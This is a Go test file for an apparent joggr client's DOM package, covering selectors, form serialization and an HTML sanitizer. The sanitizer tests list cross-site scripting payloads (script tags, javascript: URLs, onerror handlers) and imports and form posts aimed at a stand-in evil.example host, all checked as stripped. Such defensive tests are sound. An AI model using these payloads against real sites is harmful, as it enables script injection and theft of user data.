package dom_test

import (
	"errors"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/joggr/joggr-client/dom"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const page = `<!DOCTYPE html>
<html><head><title>Joggr</title></head>
<body>
<nav><a id="login" href="#">Log in</a></nav>
<div class="body">Loading...</div>
</body></html>`

func parsePage(t *testing.T) *dom.Document {
	t.Helper()
	doc, err := dom.ParseString(page, dom.MustParseSelector("div.body"))
	require.NoError(t, err)
	return doc
}

func TestParseFindsContainer(t *testing.T) {
	doc := parsePage(t)
	assert.Equal(t, "Loading...", doc.ContainerHTML())

	_, err := dom.ParseString(page, dom.MustParseSelector("#missing"))
	assert.True(t, errors.Is(err, dom.ErrNoContainer), "err = %v, want ErrNoContainer", err)
}

func TestSetContainerHTMLKeepsFragmentVerbatim(t *testing.T) {
	doc := parsePage(t)

	// Unquoted attributes and an unclosed <li> would not survive a
	// parse/render round trip.
	fragment := `<ul class=week><li>Mon: 8h<li>Tue: 0h</ul>`
	require.NoError(t, doc.SetContainerHTML(fragment))

	assert.Equal(t, fragment, doc.ContainerHTML())
	assert.Equal(t, `<ul class="week"><li>Mon: 8h</li><li>Tue: 0h</li></ul>`, doc.ContainerDOM())
	assert.Len(t, doc.QueryContainer(dom.MustParseSelector("ul.week li")), 2)

	// Content outside the container is not affected.
	var b strings.Builder
	require.NoError(t, doc.Render(&b))
	assert.Contains(t, b.String(), `<a id="login" href="#">Log in</a>`)
}

func TestSetContainerHTMLEmpty(t *testing.T) {
	doc := parsePage(t)
	require.NoError(t, doc.SetContainerHTML(""))
	assert.Equal(t, "", doc.ContainerHTML())
	assert.Equal(t, "", doc.ContainerDOM())
}

func TestSelectorMatch(t *testing.T) {
	doc := parsePage(t)
	require.NoError(t, doc.SetContainerHTML(
		`<a id="weekly" class="nav link">W</a>`+
			`<button class="show-all" data-scope="all" data-label="a]b">All</button>`+
			`<form id="add"><input id="date" name="date" type="date"></form>`))

	for _, tc := range []struct {
		selector string
		want     []string
	}{
		{"a#weekly", []string{"a#weekly.nav.link"}},
		{".show-all", []string{"button.show-all"}},
		{"a.nav.link", []string{"a#weekly.nav.link"}},
		{"[data-scope=all]", []string{"button.show-all"}},
		{`input[type="date"]`, []string{"input#date"}},
		{"form input", []string{"input#date"}},
		{"form#add input#date", []string{"input#date"}},
		{"form > input", []string{"input#date"}},
		{`[data-label="a]b"]`, []string{"button.show-all"}},
		{`button[data-label='a]b'].show-all`, []string{"button.show-all"}},
		{"a#weekly, .show-all", []string{"a#weekly.nav.link", "button.show-all"}},
		{"nav a", nil},
		{"a#logout", nil},
	} {
		nodes := doc.QueryContainer(dom.MustParseSelector(tc.selector))
		var got []string
		for _, n := range nodes {
			got = append(got, dom.Describe(n))
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("QueryContainer(%q) diff (-want +got):\n%s", tc.selector, diff)
		}
	}
}

func TestParseSelectorErrors(t *testing.T) {
	for _, s := range []string{"", "a#", "a.", "a[href", "a >", "a,,b", `[data-label="a]b"`} {
		if _, err := dom.ParseSelector(s); err == nil {
			t.Errorf("dom.ParseSelector(%q) error = nil, want an error", s)
		}
	}
}

func TestSerializeForm(t *testing.T) {
	doc := parsePage(t)
	require.NoError(t, doc.SetContainerHTML(`<form id="login" action="/api/v1/users/login" method="post">
<input name="email" value="me@example.com">
<input name="password" type="password" value="passw0rd">
<input name="remember" type="checkbox" checked>
<input name="newsletter" type="checkbox" value="yes">
<input name="unit" type="radio" value="km" checked><input name="unit" type="radio" value="mi">
<select name="zone"><option>UTC</option><option value="cet">CET</option></select>
<textarea name="note">felt good</textarea>
<input name="locked" value="x" disabled>
<input type="submit" name="go" value="Log in">
<input value="anonymous">
</form>`))

	form, err := dom.SerializeForm(doc.QueryContainer(dom.MustParseSelector("form"))[0])
	require.NoError(t, err)

	assert.Equal(t, "/api/v1/users/login", form.Action)
	assert.Equal(t, "POST", form.Method)

	want := url.Values{
		"email":    {"me@example.com"},
		"password": {"passw0rd"},
		"remember": {"on"},
		"unit":     {"km"},
		"zone":     {"UTC"},
		"note":     {"felt good"},
	}
	if diff := cmp.Diff(want, form.Values); diff != "" {
		t.Errorf("form.Values diff (-want +got):\n%s", diff)
	}
}

func TestSerializeFormDefaults(t *testing.T) {
	doc := parsePage(t)
	require.NoError(t, doc.SetContainerHTML(`<form><input name="q" value="runs"></form>`))

	form, err := dom.SerializeForm(doc.QueryContainer(dom.MustParseSelector("form"))[0])
	require.NoError(t, err)
	assert.Equal(t, "", form.Action)
	assert.Equal(t, "GET", form.Method)

	_, err = dom.SerializeForm(doc.Container())
	assert.Error(t, err)
}

func TestSetValue(t *testing.T) {
	doc := parsePage(t)
	require.NoError(t, doc.SetContainerHTML(`<form>
<input name="email"><input name="agree" type="checkbox">
<textarea name="note">old</textarea>
<select name="zone"><option>UTC</option><option value="cet">CET</option></select>
</form>`))

	set := func(sel, value string) {
		t.Helper()
		n := doc.QueryContainer(dom.MustParseSelector(sel))[0]
		require.NoError(t, dom.SetValue(n, value))
	}
	set("input[name=email]", "me@example.com")
	set("input[name=agree]", "on")
	set("textarea", "new")
	set("select", "cet")

	form, err := dom.SerializeForm(doc.QueryContainer(dom.MustParseSelector("form"))[0])
	require.NoError(t, err)

	want := url.Values{
		"email": {"me@example.com"},
		"agree": {"on"},
		"note":  {"new"},
		"zone":  {"cet"},
	}
	if diff := cmp.Diff(want, form.Values); diff != "" {
		t.Errorf("form.Values diff (-want +got):\n%s", diff)
	}

	sel := doc.QueryContainer(dom.MustParseSelector("select"))[0]
	assert.Error(t, dom.SetValue(sel, "pst"))
}

func TestAttachDatePicker(t *testing.T) {
	doc := parsePage(t)
	require.NoError(t, doc.SetContainerHTML(`<input id="date" type="date">`))

	n := doc.QueryContainer(dom.MustParseSelector("input#date"))[0]
	_, ok := dom.HasDatePicker(n)
	assert.False(t, ok)

	dom.AttachDatePicker(n, dom.DateFormat)
	format, ok := dom.HasDatePicker(n)
	assert.True(t, ok)
	assert.Equal(t, "yyyy-mm-dd", format)
}

func TestStripActive(t *testing.T) {
	for _, tc := range []struct {
		name     string
		in       string
		keep     []string
		stripped []string
	}{
		{"plain", `<p>ok</p>`, []string{`<p>ok</p>`}, nil},
		{"script", `<p>hi</p><script>alert(1)</script>`, []string{`<p>hi</p>`}, []string{"script", "alert"}},
		{"iframe", `<div><iframe src="x"></iframe><b>x</b></div>`, []string{`<b>x</b>`}, []string{"iframe"}},
		{"handlers", `<a href="javascript:alert(1)" onclick="x()">go</a>`, []string{"go"}, []string{"javascript", "onclick"}},
		{"spaced scheme", `<a href=" JaVa	Script:alert(1)">go</a>`, []string{"go"}, []string{"alert"}},
		{"img onerror", `<img src="/a.png" onerror="x()">`, []string{`src="/a.png"`}, []string{"onerror"}},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>`, []string{`<p>x</p>`}, []string{"meta", "refresh", "javascript"}},
		{"data url", `<a href="data:text/html,<script>alert(1)</script>">go</a>`, []string{"go"}, []string{"data:", "script"}},
		{"svg animate", `<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>`, nil, []string{"svg", "animate", "javascript"}},
		{"link import", `<link rel="import" href="//evil.example/x.html">`, nil, []string{"link", "evil"}},
		{"style import", `<style>@import url(//evil.example/x.css)</style><p>x</p>`, []string{`<p>x</p>`}, []string{"style", "@import", "evil"}},
		{"form to elsewhere", `<form action="https://evil.example/steal" method="post"><input name="email"></form>`, []string{`<input name="email"`}, []string{"evil"}},
		{"formaction", `<form action="entries/add"><button formaction="javascript:alert(1)">Go</button></form>`, []string{`action="entries/add"`}, []string{"javascript", "formaction"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := dom.StripActive.Sanitize(tc.in)
			require.NoError(t, err)
			for _, s := range tc.keep {
				assert.Contains(t, got, s)
			}
			for _, s := range tc.stripped {
				assert.NotContains(t, strings.ToLower(got), strings.ToLower(s))
			}
		})
	}

	got, err := dom.Trusted.Sanitize(`<script>x</script>`)
	require.NoError(t, err)
	assert.Equal(t, `<script>x</script>`, got)
}

func TestStripActiveKeepsForms(t *testing.T) {
	doc := parsePage(t)

	fragment := `<ul class="entries"><li>Mon</li></ul>` +
		`<form id="login" action="/api/v1/users/login" method="post">` +
		`<input name="email" type="email" value="me@example.com"><input name="password" type="password">` +
		`<input name="remember" type="checkbox" checked></form>`
	clean, err := dom.StripActive.Sanitize(fragment)
	require.NoError(t, err)
	require.NoError(t, doc.SetContainerHTML(clean))

	assert.Len(t, doc.QueryContainer(dom.MustParseSelector("ul.entries li")), 1)

	form, err := dom.SerializeForm(doc.QueryContainer(dom.MustParseSelector("form#login"))[0])
	require.NoError(t, err)
	assert.Equal(t, "/api/v1/users/login", form.Action)
	assert.Equal(t, "POST", form.Method)
	want := url.Values{"email": {"me@example.com"}, "password": {""}, "remember": {"on"}}
	if diff := cmp.Diff(want, form.Values); diff != "" {
		t.Errorf("form values diff (-want +got):\n%s", diff)
	}
}
